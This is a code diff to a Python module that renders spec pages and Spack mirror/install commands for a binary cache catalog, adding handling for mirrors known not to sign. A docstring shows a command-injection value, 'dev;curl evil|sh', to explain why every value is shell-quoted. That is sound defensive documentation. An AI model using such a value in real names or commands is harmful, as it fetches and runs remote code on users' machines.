@@ -8,7 +8,7 @@ the same page (a test compares them on every spec of the demo).
 from __future__ import annotations
 
 import shlex
-from collections.abc import Sequence
+from collections.abc import Collection, Sequence
 from operator import attrgetter
 
 import msgspec
@@ -116,8 +116,9 @@ def install_commands(tag: str, stack: str, url: str, dag_hash: str, *, signed: b
     Users paste them into a shell, and names and URLs come from mirrors and config
     files (a remote ``tags_from`` file among them): every value is shell-quoted, so a
     name like ``dev;curl evil|sh`` stays one argument. Plain names are left as they are.
-    An unsigned mirror (an OCI registry, or one whose specs ``cachedex verify`` found
-    unsigned) is added with ``--unsigned`` (see :func:`mirror_commands`)."""
+    An unsigned mirror (an OCI registry, one known not to sign, or one whose specs
+    ``cachedex verify`` found unsigned) is added with ``--unsigned`` (see
+    :func:`mirror_commands`)."""
     mirror = f"{tag}-{stack}" if stack != ROOT_STACK else tag
     return f"{mirror_commands(mirror, url, signed=signed)}\nspack install --cache-only {shlex.quote('/' + dag_hash)}"
 
@@ -156,6 +157,7 @@ def spec_page(catalog: Catalog, dag_hash: str) -> SpecPage:
         node=catalog.node(dag_hash) or "{}",
         verifications=catalog.spec_verifications(dag_hash),
         first_seen=catalog.first_seen(dag_hash),
+        unsigned_mirrors=catalog.unsigned_mirrors(),
     )
 
 
@@ -169,8 +171,10 @@ def spec_page_from(
     node: str,
     verifications: Sequence[SpecVerification] = (),
     first_seen: Sequence[FirstSeen] = (),
+    unsigned_mirrors: Collection[tuple[str, str]] = frozenset(),
 ) -> SpecPage:
-    """A spec's page from its parts (read one by one, or from a ``graph.SpecGraph``)."""
+    """A spec's page from its parts (read one by one, or from a ``graph.SpecGraph``);
+    ``unsigned_mirrors``: :meth:`Catalog.unsigned_mirrors`."""
     # Only binaries are downloaded: a dependency without one (an external) costs nothing.
     binaries = [e.size for e in closure if e.listed] + ([spec.size] if spec.tags else [])
     known = [size for size in binaries if size is not None]
@@ -182,9 +186,10 @@ def spec_page_from(
     # The catalog's summary of one hash leaves its stacks out (they are a tag's): its
     # answer says which stacks list it, as its tags, not "none".
     stacks = tuple(sorted({h.stack for h in holders if h.listed}, key=stack_order))
-    # A mirror whose latest verification found this spec unsigned: Spack refuses to
-    # install it from a mirror added without --unsigned.
+    # A mirror known not to sign, or whose latest verification found this spec
+    # unsigned: Spack refuses to install it from a mirror added without --unsigned.
     unsigned = {(v.tag, v.stack) for v in verifications if v.signature == "unsigned"}
+    unsigned.update(unsigned_mirrors)
     return SpecPage(
         spec=msgspec.structs.replace(spec, stacks=stacks) if stacks != tuple(spec.stacks) else spec,
         holders=tuple(holders),
